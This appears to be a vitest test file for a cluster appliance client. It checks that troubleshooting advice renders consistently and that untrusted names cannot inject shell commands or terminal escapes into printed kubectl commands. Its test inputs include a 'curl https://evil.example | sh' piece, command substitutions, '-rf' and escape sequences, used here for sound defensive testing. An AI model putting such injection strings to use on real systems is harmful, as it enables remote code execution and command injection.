import { execFile } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { expect, test } from 'vitest';
import { openSite, recordSite } from '../../client/site/site.ts';
import { makeBlocker } from '../../diagnosis/index.ts';
import { fileWord, named, run } from '../../model/advice.ts';
import { adviceText, anywhere, renderStretches, stretchesOf } from '../../model/render-advice.ts';
import type { Situation } from '../../model/render-advice.ts';
import { blockers as cards } from '../../status-service/pages/parts/blockers.ts';
import { statusDocument } from '../../model/status.ts';
import { testSpec } from '../support/spec.ts';
import { completed, progressIn } from './support/progress.ts';
import { NOW, runClient, temporaryFolder } from './support/run-client.ts';
import { running, scriptedInstalls } from './support/scripted-installs.ts';

const BLOCKER = makeBlocker('dns-resolution-failure', {
  component: 'talos',
  tier: 'platform',
  object: 'node 192.0.2.10',
  at: '2026-05-01T12:00:00Z',
  siteId: 'berlin',
  nodeIp: '192.0.2.10',
  facts: { host: 'ghcr.io' },
});
const PARKED = progressIn('host', { siteId: 'berlin', state: 'parked', blockers: [BLOCKER] }, 'blocked');
const OVER = completed({ siteId: 'berlin', warnings: [{ ...BLOCKER, tier: 'background' as const }] });

/** The advice in a command's output: the text after the arrow, on one line. */
function advised(output: string): string {
  const lines = output.split('\n');
  const at = lines.findIndex((line) => /^\s*(?:→|->) /.test(line));
  const end = lines.findIndex((line, index) => index > at && (!line.startsWith('    ') || line.trim() === ''));
  return lines
    .slice(at, end === -1 ? undefined : end)
    .map((line) => line.trim())
    .join(' ');
}

async function terminal(
  argv: readonly string[],
  script: Parameters<typeof scriptedInstalls>[0],
  options: { readonly sites?: readonly string[]; readonly home?: string } = {},
): Promise<string> {
  const home = options.home ?? (await temporaryFolder());
  for (const siteId of options.sites ?? ['berlin'])
    await recordSite(await openSite(home, siteId), testSpec({ siteId }), NOW);
  const { services } = scriptedInstalls(script);
  const { stdout, stderr } = await runClient([...argv], { home, services });
  return advised(`${stdout}\n${stderr}`).replaceAll(home, '/home');
}

async function page(install: 'open' | 'over'): Promise<string> {
  const home = await temporaryFolder();
  await recordSite(await openSite(home, 'berlin'), testSpec({ siteId: 'berlin' }), NOW);
  const view = install === 'open' ? running(PARKED) : running(OVER, { run: 'COMPLETED' });
  const { services } = scriptedInstalls({ scenes: [{ at: 0, view }] });
  const { stdout } = await runClient(['status', '-o', 'json'], { home, services });
  const document = statusDocument.parse(JSON.parse(stdout));
  const html = String(await cards({ ...document, topBlockers: [BLOCKER] }));
  const action = /<h4>What to do<\/h4>([\s\S]*?)<\/div>/.exec(html)?.[1] ?? '';
  return action
    .replaceAll(/<button[\s\S]*?<\/button>/g, '')
    .replaceAll(/<[^>]+>/g, '')
    .replaceAll(/\s+/g, ' ')
    .trim();
}

const PULL_FAILS = {
  apiVersion: 'v1',
  kind: 'List',
  items: [],
};

test('one blocker, wherever it is read', async () => {
  const parked = [{ at: 0, view: running(PARKED) }];
  const told = {
    'an install is open and a worker is running': await terminal(['status'], { scenes: parked }),
    'no worker is running': await terminal(['status'], {
      scenes: parked,
      services: { runningWorker: async () => null },
    }),
    'of several sites, with a folder of its own': await terminal(
      ['status', '--site', 'berlin'],
      { scenes: parked },
      {
        sites: ['berlin', 'paris'],
      },
    ),
    'after the end': await terminal(['status'], {
      scenes: [{ at: 0, view: running(PARKED, { run: 'TERMINATED' }) }],
    }),
    'a check': await terminal(
      ['preflight', '--fresh', '--yes', '--node-ip', '192.0.2.10', '--repo-url', testSpec().repo.url],
      { scenes: [], preflight: { checks: [], blockers: [BLOCKER], warnings: [] } },
    ),
    'the page of the node, install open': await page('open'),
    'the page of the node, install over': await page('over'),
    'a snapshot from elsewhere': adviceText(BLOCKER, anywhere('berlin', 'elsewhere')),
    'the wire': BLOCKER.nextAction,
  };
  await expect(`${JSON.stringify(told, null, 2)}\n`).toMatchFileSnapshot('golden/advice-situations.txt');
});

const TRICKS = [
  '\u001b]52;c;ZXZpbA==\u0007x',
  '\u009b31mred',
  'x; curl https://evil.example | sh #',
  '$(touch /tmp/owned)',
  '`touch /tmp/owned`',
  'quote \' and " and \\',
  'two\nlines',
  'for\u202Eward',
  '--all',
  '-rf',
  '~root',
  '*',
  '',
];

// eslint-disable-next-line no-control-regex
const FORBIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]|\p{Bidi_Control}/u;

const execute = promisify(execFile);

/** The words of a printed command after a shell has parsed it. */
async function words(line: string, own: string): Promise<string[]> {
  const { stdout } = await execute('/bin/sh', ['-c', `show() { printf '%s\\0' "$@"; }; show ${line}`], {
    env: { HOME: own, PATH: '/nowhere' },
  });
  return stdout.split('\0').slice(0, -1);
}

test.each(TRICKS)('a name from outside is one word of a command, or is not in it: %j', async (trick) => {
  const here: Situation = {
    ...anywhere('berlin'),
    folder: "/srv/it's mine/berlin",
    home: "/srv/it's mine",
    configDir: "/srv/it's mine",
    own: '/srv',
  };
  for (const situation of [here, { ...here, folder: '/srv/x/berlin', home: '/srv/x' }, anywhere('berlin')]) {
    const [stretch] = renderStretches(
      [run('kubectl', '--kubeconfig', fileWord('kubeconfig'), 'delete', 'pod', named(trick, 'name'))],
      situation,
    );
    const line = stretch?.text ?? '';
    expect(line).not.toMatch(FORBIDDEN);
    const isRefused = line.endsWith('<name>');
    const found = await words(line.replace('<name>', 'hole'), '/srv');
    expect(found).toEqual([
      'kubectl',
      '--kubeconfig',
      situation.folder.startsWith('~')
        ? '/srv/.alga-psa-appliance/berlin/kubeconfig'
        : `${situation.folder}/kubeconfig`,
      'delete',
      'pod',
      isRefused ? 'hole' : trick,
    ]);
    expect(isRefused).toBe(trick === '' || trick.startsWith('-') || FORBIDDEN.test(trick) || /[\n`]/.test(trick));
  }
});

/** Adds a trick to every text in the value that is not a word of the format. */
function poisoned(value: unknown, trick: string): unknown {
  if (typeof value === 'string') return /^(?:\d{4}-\d\d-\d\dT|https?:)/.test(value) ? value : `${value}${trick}`;
  if (Array.isArray(value)) return value.map((one) => poisoned(one, trick));
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, poisoned(one, trick)]));
}

const POD = {
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'alga-core-sebastian-0', namespace: 'msp', uid: 'u1', creationTimestamp: '2026-05-01T11:00:00Z' },
  spec: { nodeName: 'node', containers: [{ name: 'sebastian', image: 'ghcr.io/nine-minds/alga-psa-ee:1' }] },
  status: {
    phase: 'Pending',
    containerStatuses: [
      {
        name: 'sebastian',
        image: 'ghcr.io/nine-minds/alga-psa-ee:1',
        restartCount: 0,
        ready: false,
        state: {
          waiting: {
            reason: 'ErrImagePull',
            message: 'Failed to pull image "ghcr.io/nine-minds/alga-psa-ee:1": not found',
          },
        },
      },
    ],
  },
};

test.each(TRICKS)('a snapshot that somebody sent writes nothing else on the terminal: %j', async (trick) => {
  const home = await temporaryFolder();
  const kept = new Set(['apiVersion', 'kind', 'namespace', 'reason', 'phase']);
  const spoil = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(spoil);
    if (value === null || typeof value !== 'object') return poisoned(value, trick);
    return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, kept.has(key) ? one : spoil(one)]));
  };
  await writeFile(join(home, 'list.json'), JSON.stringify({ ...PULL_FAILS, items: [POD, spoil(POD)] }));
  for (const format of [[], ['-o', 'json'], ['-o', 'yaml'], ['--explain']]) {
    const { stdout, stderr } = await runClient(['diagnose', '--from', join(home, 'list.json'), ...format], { home });
    expect(`${stdout}${stderr}`).not.toMatch(FORBIDDEN);
    expect(stdout).toContain('image-tag-missing');
    for (const [, line = ''] of stdout
      .replaceAll(/\n\s+/g, ' ')
      .matchAll(/`((?:appliance-client|kubectl|talosctl) [^`]*)`/g)) {
      const found = await words(line.replaceAll(/<[^>]+>/g, 'hole'), '/srv');
      expect(found.filter((word) => word === '--all' || word === '-rf' || word === 'curl')).toEqual([]);
    }
  }
});

test.each(TRICKS)(
  'a document of another version, without advice as data, is shown and not believed: %j',
  async (trick) => {
    const [stretch] = stretchesOf(
      { nextAction: `Run \`appliance-client retry${trick}\`.` },
      anywhere('berlin', 'over'),
    );
    expect(stretch?.is).toBe('text');
    expect(stretch?.text).not.toMatch(FORBIDDEN);
    const newer = stretchesOf(
      { advice: [{ text: 'x' }, { hologram: 'y' }], nextAction: 'Read the manual.' },
      anywhere('berlin'),
    );
    expect(newer).toEqual([{ is: 'text', text: 'Read the manual.' }]);
  },
);
